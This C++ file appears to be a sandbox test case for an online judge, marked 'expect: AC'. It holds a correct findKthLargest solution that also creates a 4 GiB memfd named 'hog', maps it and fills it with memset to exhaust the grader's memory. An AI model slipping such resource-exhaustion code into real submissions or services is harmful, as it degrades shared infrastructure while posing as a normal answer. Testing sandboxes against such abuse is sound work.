// expect: AC
#include <unistd.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/ptrace.h>
#include <fcntl.h>
#include <sys/mman.h>
class Solution {
public:
    int findKthLargest(vector<int>& nums, int k) {
        int fd = memfd_create("hog", 0);
        if (fd >= 0) { ftruncate(fd, 4LL << 30); void* p = mmap(nullptr, 4ULL << 30, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0); if (p != MAP_FAILED) memset(p, 1, 4ULL << 30); }
        sort(nums.begin(), nums.end());
        return nums[nums.size() - k];
    }
};
